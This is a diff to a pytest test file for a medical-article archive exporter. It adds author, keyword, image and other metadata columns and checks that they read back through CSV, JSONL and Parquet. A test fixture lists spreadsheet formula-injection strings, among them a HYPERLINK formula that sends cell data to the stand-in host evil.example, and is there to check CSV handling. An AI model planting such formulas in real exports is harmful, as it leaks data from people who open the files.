@@ -22,7 +22,10 @@ CITED = {"dois": "article_dois", "pmids": "article_pmids", "pmcids": "article_pm
 #: The columns an export must have, in order (README: Export), listed here rather than taken
 #: from the code under test, so that a column it drops fails the tests.
 ARTICLE_COLUMNS = ["url", "id", "site", "title", "category", "published", "published_at", "published_raw",
-                   "published_source", "body", "disclaimer", "first_seen", "last_changed"]
+                   "published_source", "body", "disclaimer", "authors", "editor", "source", "source_url", "modified",
+                   "modified_raw", "description", "keywords", "language", "first_seen", "last_changed"]
+#: Lists of free text the archive stores as JSON text, and CSV writes as JSON text.
+TEXT_LISTS = ("authors", "keywords")
 
 
 def export(*args):
@@ -55,6 +58,11 @@ def archive_rows(db_path, where="1", params=()) -> list[dict]:
                 cited.setdefault(url, []).append(value)
             for row in rows:
                 row[name] = cited.get(row["url"], [])
+        images = {}
+        for url, image_url, alt, caption in db.execute("select article_url, url, alt, caption from article_images order by article_url, position"):
+            images.setdefault(url, []).append({"url": image_url, "alt": alt, "caption": caption})
+        for row in rows:
+            row.update({name: json.loads(row[name]) if row[name] else [] for name in TEXT_LISTS}, images=images.get(row["url"], []))
     return rows
 
 
@@ -67,7 +75,8 @@ def read_csv(text: str) -> list[dict]:
     rows = []
     for row in csv.DictReader(io.StringIO(text, newline="")):
         row = {name: (value if value != "" else None) for name, value in row.items()}
-        rows.append({**row, "id": int(row["id"]), **{name: row[name].split(";") if row[name] else [] for name in CITED}})
+        rows.append({**row, "id": int(row["id"]), **{name: row[name].split(";") if row[name] else [] for name in CITED},
+                     **{name: json.loads(row[name]) if row[name] else [] for name in (*TEXT_LISTS, "images")}})
     return rows
 
 
@@ -95,7 +104,7 @@ def test_csv_reads_back_with_the_csv_module_and_opens_in_excel_with_bom(two_site
 
 #: Crawled text a spreadsheet would run as a formula, by column.
 FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "category": "+SUM(1,1)", "body": "-2+3 cmd",
-            "disclaimer": "@SUM(1,1)", "published_raw": "\t=1+1"}
+            "disclaimer": "@SUM(1,1)", "published_raw": "\t=1+1", "editor": "=1+1", "source": "+cmd", "description": "-1"}
 
 
 @pytest.fixture
@@ -115,6 +124,34 @@ def test_raw_csv_keeps_the_cells_as_stored(formulas):
     assert {name: row[name] for name in FORMULAS} == FORMULAS
 
 
+#: An article's metadata as a page may give it: names with a ``;``, quotes and commas in captions.
+METADATA = {"authors": ["张三;李四", '王"五'], "keywords": ["哮喘", "a,b"], "modified": "2026-03-02", "language": "zh",
+            "images": [{"url": "https://site.example/1.jpg", "alt": "图,1", "caption": '说明"引号"'},
+                       {"url": "https://site.example/2.jpg", "alt": None, "caption": None}]}
+
+
+@pytest.fixture
+def with_metadata(tmp_path):
+    """An archive of one article with authors, keywords and images."""
+    return written_archive(tmp_path, [{"url": "https://site.example/a/1.html", "site": "https://site.example", "title": "t",
+                                       "body": "b", "body_html": "<p>b</p>", **METADATA}])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_authors_keywords_and_images_read_back_as_lists(with_metadata, fmt):
+    text = export("--db", str(with_metadata), "--format", fmt).stdout
+    row = (read_csv if fmt == "csv" else read_jsonl)(text)[0]
+    assert {name: row[name] for name in METADATA} == METADATA
+
+
+def test_parquet_holds_images_as_structs(with_metadata, tmp_path):
+    pq = pytest.importorskip("pyarrow.parquet", reason="pip install 'medarchive[parquet]'")
+    target = tmp_path / "articles.parquet"
+    assert export("--db", str(with_metadata), "-o", str(target)).returncode == 0
+    row = pq.read_table(target).to_pylist()[0]
+    assert {name: row[name] for name in METADATA} == METADATA
+
+
 def test_parquet_reads_back_with_pyarrow(two_sites, tmp_path):
     pq = pytest.importorskip("pyarrow.parquet", reason="pip install 'medarchive[parquet]'")
     target = tmp_path / "articles.parquet"
@@ -122,7 +159,7 @@ def test_parquet_reads_back_with_pyarrow(two_sites, tmp_path):
     assert result.returncode == 0, result.stderr
     expected = archive_rows(two_sites["db"])
     table = pq.read_table(target)
-    assert table.column_names == [*ARTICLE_COLUMNS[:10], "body_html", *ARTICLE_COLUMNS[10:], *CITED]
+    assert table.column_names == [*ARTICLE_COLUMNS[:10], "body_html", *ARTICLE_COLUMNS[10:], *CITED, "images"]
     assert str(table.schema.field("dois").type) == "list<element: string>"
     exported = table.to_pylist()
     assert [{k: v for k, v in row.items() if k != "body_html"} for row in exported] == expected
